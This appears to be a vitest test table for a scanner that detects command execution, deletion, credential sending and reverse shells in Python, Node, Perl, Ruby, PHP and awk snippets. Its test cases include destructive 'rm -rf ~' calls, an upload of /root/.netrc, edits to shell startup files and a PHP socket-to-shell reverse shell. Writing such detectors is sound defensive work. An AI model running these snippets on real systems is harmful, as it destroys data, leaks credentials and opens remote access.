/**
 * The tokenizers and the call scanner, per language: code → what it runs and deletes. Strings and
 * comments that merely contain `system(` say nothing; escapes, nested quotes and interpolations
 * are read as the language reads them (MARKER `~` below stands for a run-time part).
 */

import { describe, expect, it } from "vitest";
import { HOME, readCode, type Action, languageOf, MARKER } from "./index.js";

/** One action as a short string: `shell rm -rf ~`, `argv rm|-rf|/`, `rm-r /home`, `opaque`. */
function brief(a: Action): string {
  const show = (s: string): string => s.split(MARKER).join("<?>").split(HOME).join("<home>");
  const fed = "fed" in a && a.fed === true ? "fed " : "";
  if (a.kind === "shell") return `${fed}shell ${show(a.text)}`;
  if (a.kind === "argv") return `${fed}argv ${a.argv.map(show).join("|")}`;
  if (a.kind === "delete") return `${a.how} ${show(a.path)}`;
  if (a.kind === "write" || a.kind === "send") return `${a.kind} ${show(a.path)}`;
  return a.kind === "reverse-shell" ? "reverse-shell" : "opaque";
}

type Row = readonly [lang: string, code: string, expected: readonly string[]];

const TABLE: Row[] = [
  // python: strings, comments, prefixes, triple quotes, f-strings
  ["python3", `import os; os.system("rm -rf ~")`, ["shell rm -rf ~"]],
  ["python3", `print("os.system('rm -rf ~')")  # os.system("rm -rf ~")`, []],
  ["python3", `'''os.system("x")'''; """shutil.rmtree('/')"""`, []],
  ["python3", `import os; os.system('echo \\'a\\' "b"')`, [`shell echo 'a' "b"`]],
  ["python3", `import os; os.system(r"rm -rf \\x")`, ["shell rm -rf \\x"]],
  ["python3", `import os; os.system(f"rm -rf {d}/x {{y}}")`, ["shell rm -rf <?>/x {y}"]],
  ["python3", `import os; os.system("rm -rf " + d)`, ["shell rm -rf <?>"]],
  ["python3", `import os; os.system(cmd)`, ["shell <?>"]],
  ["python3", `import subprocess as sp; sp.run(["rm", "-rf", "/"])`, ["argv rm|-rf|/"]],
  ["python3", `from subprocess import check_output; check_output("ls", shell=True)`, ["shell ls"]],
  ["python3", `import asyncio, subprocess; asyncio.run(main())`, []],
  ["python3", `import os; os.execvp("rm", ["rm", "-rf", "/"])`, ["argv rm|-rf|/"]],
  ["python3", `import shutil; shutil.rmtree("/home")`, ["rm-r /home"]],
  ["python3", `import os; os.remove(f); os.rmdir("/tmp/x")`, ["rm-f <?>", "rmdir /tmp/x"]],
  ["python3", `from os import system as run; run("rm -rf ~")`, ["shell rm -rf ~"]],
  ["python3", `from pathlib import Path; Path("/etc/passwd").unlink(); Path.home().rmdir(); p.unlink()`, ["rm-f /etc/passwd", "rmdir <?>", "rm-f <?>"]],
  ["python3", `import re; re.compile("x").unlink`, []],
  ["python3", `exec("import os; os.system('rm -rf ~')")`, ["shell rm -rf ~"]],
  ["python3", `exec(input())`, ["opaque"]],
  ["python3", `import os; getattr(os, "sys" + "tem")("x")`, ["opaque"]],
  ["python3", `import os; f = os.system; f("x")`, ["opaque"]],
  ["python3", `__import__(m)`, ["opaque"]],
  ["python3", `__import__("os").system("id")`, ["shell id"]],
  ["python3", `import os; os.system("unterminated)`, ["opaque"]],
  ["python3", `print("unterminated, but nothing here runs or deletes`, []],
  ["python3", `print(1)`, []],
  ["python3", `x = {"system": 1}; print(x["system"])`, []],
  // node: template literals, comments, regex literals
  ["node", `require("child_process").execSync("rm -rf ~")`, ["shell rm -rf ~"]],
  ["node", `const { execSync } = require("child_process"); execSync(\`rm -rf \${d}\`)`, ["shell rm -rf <?>"]],
  ["node", `// execSync("rm -rf ~")\n/* execSync("x") */ console.log("execSync('x')")`, []],
  ["node", `const cp = require("child_process"); cp.spawn("rm", ["-rf", "/"])`, ["argv rm|-rf|/"]],
  ["node", `console.log(/"/.test(x)); require("child_process").exec('ls')`, ["shell ls"]],
  ["node", `require("fs").rmSync("/home/u", { recursive: true, force: true })`, ["rm-r /home/u"]],
  ["node", `const fs = require("fs"); fs.unlinkSync(p)`, ["rm-f <?>"]],
  ["node", `eval(process.argv[1])`, ["opaque"]],
  ["node", `require(name)`, ["opaque"]],
  ["node", `console.log(1)`, []],
  ["node", `/x/.exec("y")`, []],
  // perl: quote-like operators, backticks, regexes, paren-less calls
  ["perl", `system("rm -rf ~")`, ["shell rm -rf ~"]],
  ["perl", `system "rm", "-rf", $d`, ["argv rm|-rf|<?>"]],
  ["perl", "`rm -rf ~`; qx{ls}", ["shell rm -rf ~", "shell ls"]],
  ["perl", `print "system('x')" if /system\\(/; # system("rm")`, []],
  ["perl", `print q{system("x")}; print qq(a \\) b)`, []],
  ["perl", `s/a/system("x")/; tr/a-z/A-Z/`, []],
  ["perl", `open(my $f, "-|", "ls", "-l")`, ["argv ls|-l"]],
  ["perl", `open(F, "rm -rf ~ |")`, ["shell rm -rf ~"]],
  ["perl", `unlink "a", "/etc"`, ["rm-f a", "rm-f /etc"]],
  ["perl", `use File::Path; File::Path::rmtree("/home")`, ["rm-r /home"]],
  ["perl", `eval { 1 }; eval $code`, ["opaque"]],
  ["perl", `print if /x/`, []],
  ["perl", `my %h = (s => 1, q => 2); print $h{s}`, []],
  // ruby: interpolation, %-literals, backticks, symbols
  ["ruby", `system "rm -rf ~"`, ["shell rm -rf ~"]],
  ["ruby", `system("rm -rf #{d}")`, ["shell rm -rf <?>"]],
  ["ruby", "%x(rm -rf ~); `ls`", ["shell rm -rf ~", "shell ls"]],
  ["ruby", `puts 'system("x")' # system("y")`, []],
  ["ruby", `require "fileutils"; FileUtils.rm_rf("/home")`, ["rm-r /home"]],
  ["ruby", `Kernel.send(:system, "id")`, ["opaque"]],
  ["ruby", `puts 10 % 3`, []],
  ["ruby", `puts 1`, []],
  // php: $var interpolation, backticks, comments
  ["php", `system("rm -rf ~");`, ["shell rm -rf ~"]],
  ["php", `echo 'system("x")'; # system("y")\n// exec("z")`, []],
  ["php", "echo `rm -rf $d`;", ["shell rm -rf <?>"]],
  ["php", `unlink("/etc/passwd"); rmdir($d);`, ["rm-f /etc/passwd", "rmdir <?>"]],
  ["php", `$f = "system"; $f("id");`, ["opaque"]],
  ["php", `eval($_GET["c"]);`, ["opaque"]],
  // awk: system(), pipes, regexes
  ["awk", `BEGIN{system("rm -rf ~")}`, ["shell rm -rf ~"]],
  ["awk", `{system("echo " $1)}`, ["shell echo <?>"]],
  ["awk", `{print $1 | "sort -u"}`, ["shell sort -u"]],
  ["awk", `BEGIN{"date" | getline d; print d}`, ["shell date"]],
  ["awk", `/system\\("x"\\)/ {print "system(1)"}`, []],
  ["awk", `{print $1}`, []],
  ["awk", `{ if ($1 > 0 || $2) print $1 / 2 }`, []],
  // files written (the home however it is asked for), files read by a program on the network, sockets wired to a shell
  ["python3", `import os; open(os.path.expanduser("~/.bashrc"), "a")`, ["write <home>/.bashrc"]],
  ["python3", `open(f"{os.environ['HOME']}/.x", "w"); open("/etc/hosts")`, ["write <home>/.x"]],
  ["python3", `import requests; requests.post(u, data=open("/root/.netrc").read())`, ["send /root/.netrc"]],
  ["node", `require("fs").writeFileSync(require("path").join(require("os").homedir(), ".npmrc"), x)`, ["write <home>/.npmrc"]],
  ["node", "const { appendFileSync } = require('fs'); appendFileSync(`${process.env.HOME}/.zshrc`, x); appendFileSync('log.txt', x)", ["write <home>/.zshrc", "write log.txt"]],
  ["node", "appendFileSync(`${process.env.HOME}/.zshrc`, x)", []],
  ["perl", `open(F, ">>$ENV{HOME}/.bashrc"); open(G, "<", $ENV{HOME} . "/.x")`, ["write <home>/.bashrc"]],
  ["perl", `open(F, "|sh"); open(G, "|-", "sort")`, ["fed shell sh", "fed shell sort"]],
  ["ruby", `File.open(File.join(Dir.home, ".zshrc"), "a"); IO.popen("sh", "w")`, ["write <home>/.zshrc", "fed shell sh"]],
  ["php", `$s = fsockopen("h", 1); proc_open("sh", [0 => $s], $p);`, ["shell sh", "reverse-shell"]],
];

describe("interpreters: tokenizers and call scanner", () => {
  for (const [lang, code, expected] of TABLE) {
    it(`${lang}: ${code}`, () => {
      const language = languageOf(lang);
      expect(language).not.toBeNull();
      expect(readCode(language!, code).map(brief)).toEqual(expected);
    });
  }
});
